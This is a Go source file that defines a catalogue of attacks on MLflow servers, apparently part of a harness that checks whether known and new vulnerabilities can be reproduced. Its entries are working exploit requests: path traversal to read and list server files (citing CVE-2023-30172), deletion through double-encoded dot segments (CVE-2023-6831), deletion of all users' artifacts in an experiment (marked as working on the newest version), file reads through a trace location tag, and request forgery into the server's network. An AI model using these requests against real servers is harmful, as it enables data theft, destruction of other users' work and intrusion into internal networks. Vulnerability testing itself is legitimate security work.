package attack

// mlflowArtifacts climbs out of the artifact store through the paths of the artifact routes, and through identifiers that end up in paths.
var mlflowArtifacts = []Attack{
	{
		ID:    "mlflow/artifact-dot-segments",
		CVE:   []string{"CVE-2023-30172"},
		Doc:   "reads a file through dot segments in the path below a run",
		Works: []string{"1.30.0"},
		Steps: []Step{experiment(), newRun(), get("/get-artifact?run_id=${run}&path=${up}${secret-file}")},
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID:    "mlflow/artifact-list-dot-segments",
		CVE:   []string{"CVE-2023-30172"},
		Doc:   "lists a folder of the server through dot segments in the path below a run",
		Works: []string{"1.30.0"},
		Steps: []Step{experiment(), newRun(), get(api2 + "/artifacts/list?run_id=${run}&path=${up}${secret-dir}")},
		Proof: Proof{Answer: "${secret-name}"},
	},
	{
		ID:    "mlflow/proxy-list-dot-segments",
		Doc:   "lists a folder of the server through the proxy's own list",
		Works: []string{"1.30.0"},
		Steps: []Step{get(files + "?path=${up}${secret-dir}")},
		Proof: Proof{Answer: "${secret-name}"}, ReadOnly: true,
	},
	{
		ID:    "mlflow/proxy-delete-double-encoded",
		CVE:   []string{"CVE-2023-6831"},
		Doc:   "deletes a folder through dot segments that are encoded twice",
		Works: []string{"2.8.0", "2.2.0"},
		Steps: []Step{{Request: "DELETE " + files + "/${up|dots|url}${prey-dir|dots|url}"}},
		Proof: Proof{Gone: "${prey-file}"},
	},
	{
		ID:    "mlflow/proxy-delete-all",
		Doc:   "deletes everybody's artifacts of an experiment by naming its folder at the proxy",
		Works: []string{"2.9.2", "2.16.2", "3.9.0", "new"},
		Steps: steps(theirs(), theirFile(), []Step{{Request: "DELETE " + files + "/${vexp}"}}),
		Proof: Proof{Probe: probe("GET " + files + "/${vexp}/${vrun}/artifacts/note.txt"), Hides: "${secret}"},
	},
	{
		ID:     "mlflow/trace-location",
		Doc:    "tells a trace through a tag that its data lie in a folder of the server, and reads them",
		Works:  []string{"2.16.2", "3.4.0", "3.9.0"},
		Secret: "traces.json", SecretText: `{"note": "${secret}"}`,
		Steps: []Step{
			experiment(),
			post(api2+"/traces", `{"experiment_id": "${exp}", "timestamp_ms": 1700000000000}`).save("trace", "trace_info.request_id"),
			{Request: "PATCH " + api2 + "/traces/${trace}/tags\n\n" + `{"key": "mlflow.artifactLocation", "value": "${secret-dir}"}`},
			get(ajax2 + "/get-trace-artifact?request_id=${trace}"),
		},
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID:       "mlflow/trace-location-request-forgery",
		Doc:      "tells a trace through a tag that its data lie at a URL of the server's network",
		Works:    []string{"2.16.2", "3.4.0", "3.9.0"},
		Server:   "local",
		Listener: map[string]Reply{"/api/2.0/mlflow-artifacts/artifacts": {Type: "application/json", Body: "{}"}, "*": {Type: "application/json", Body: `{"note": "${secret}"}`}},
		Steps: []Step{
			experiment(),
			post(api2+"/traces", `{"experiment_id": "${exp}", "timestamp_ms": 1700000000000}`).save("trace", "trace_info.request_id"),
			{Request: "PATCH " + api2 + "/traces/${trace}/tags\n\n" + `{"key": "mlflow.artifactLocation", "value": "http://${listener}/api/2.0/mlflow-artifacts/artifacts/internal-${nonce}"}`},
			get(ajax2 + "/get-trace-artifact?request_id=${trace}"),
		},
		Proof: Proof{Heard: "internal-${nonce}", Answer: "${secret}"},
	},
}

func probe(request string) *Step { return &Step{Request: request} }
